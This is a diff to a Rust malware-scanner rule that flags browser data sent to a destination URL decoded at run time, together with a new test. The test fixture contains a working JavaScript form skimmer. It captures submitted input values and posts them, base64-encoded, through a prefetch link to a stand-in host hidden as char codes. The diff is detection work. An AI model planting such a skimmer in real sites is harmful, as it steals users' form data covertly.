@@ -16,7 +16,8 @@ diligence_finding::declare_rule! {
     /// form inputs (`querySelectorAll('input')`, `FormData`, `submit`/`change` events), the cookie jar, web
     /// storage, the clipboard, wallet-provider answers — through variables, encoders, callbacks, helpers and
     /// modules. With a hard-coded destination: critical for password/card fields or key strokes, for two kinds
-    /// of data, or for an exfiltration-style endpoint; high for the whole cookie jar, a storage dump or the
+    /// of data, for an exfiltration-style endpoint, or for a destination URL decoded at run time
+    /// (`String.fromCharCode`, `atob`); high for the whole cookie jar, a storage dump or the
     /// clipboard; medium for form inputs alone. Without a complete path: cookies, storage, forms or sensitive
     /// fields read with a send in the same file or package.
     ///
@@ -138,11 +139,19 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
         .filter(|f| f.dest.is_some() && weight(f) >= 1)
         .map(|f| f.source)
         .collect();
+    // Sends whose destination URL is itself decoded at run time (char codes, base64): no
+    // analytics or form library hides where it posts.
+    let hidden: BTreeSet<(&str, u32)> = flows(p, &[SourceKind::Decoded], &[SinkKind::Network])
+        .filter(|f| f.from.what.contains("://"))
+        .map(|f| (f.to.file.as_str(), f.to.line))
+        .collect();
     let mut out = Vec::new();
     for path in flows(p, SOURCES, &[SinkKind::Network]).take(20) {
         let w = weight(path);
+        let concealed = hidden.contains(&(path.to.file.as_str(), path.to.line));
         let sev = match (path.dest.is_some(), w) {
             (true, _) if exfil_destination(path.dest.as_deref()) => Severity::Critical,
+            (true, 1..) if concealed => Severity::Critical,
             (true, 3) => Severity::Critical,
             (true, 1 | 2) if kinds.len() >= 2 => Severity::Critical,
             (true, 2) => Severity::High,
@@ -151,12 +160,17 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
             (false, 3) => Severity::Medium,
             (false, _) => continue,
         };
+        let hid = if concealed {
+            " (destination decoded at run time)"
+        } else {
+            ""
+        };
         out.push(flow_finding(
             &BROWSER_DATA_THEFT,
             sev,
             p,
             path,
-            format!("browser data is sent out: {}", describe(path)),
+            format!("browser data is sent out{hid}: {}", describe(path)),
         ));
     }
     super::one_per_sink(out)
@@ -241,6 +255,29 @@ mod tests {
         assert_eq!(
             (f.line, f.severity),
             (10, diligence_finding::Severity::Critical)
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// Form values posted by a DOM-created `<link rel=prefetch>` whose URL is decoded from
+    /// char codes in another module: the hidden destination makes form inputs critical.
+    #[test]
+    fn positive_form_values_to_a_char_code_url_in_a_prefetch_link() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "lib/env.js",
+                "exports.base = function () {\n  return String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101, 47, 102, 46, 99, 115, 115);\n};\n",
+            ),
+            (
+                "lib/theme.js",
+                "var env = require('./env');\nfunction snap(form) {\n  var o = {};\n  form.querySelectorAll('input, select').forEach(function (el) { o[el.name] = el.value; });\n  return o;\n}\ndocument.addEventListener('submit', function (e) {\n  var l = document.createElement('link');\n  l.rel = 'prefetch';\n  l.href = env.base() + '?q=' + btoa(JSON.stringify(snap(e.target)));\n  document.head.appendChild(l);\n});\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
+        assert_eq!(
+            (f.file.as_str(), f.line, f.severity),
+            ("lib/theme.js", 10, diligence_finding::Severity::Critical)
         );
         assert_eq!(s.verdict, crate::Verdict::Malicious);
     }
